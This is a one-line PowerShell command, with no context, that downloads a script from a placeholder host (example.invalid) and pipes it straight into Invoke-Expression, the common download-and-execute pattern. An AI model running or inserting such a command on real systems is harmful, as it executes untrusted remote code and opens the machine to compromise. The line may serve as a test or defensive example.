iwr https://example.invalid/x.ps1 | iex
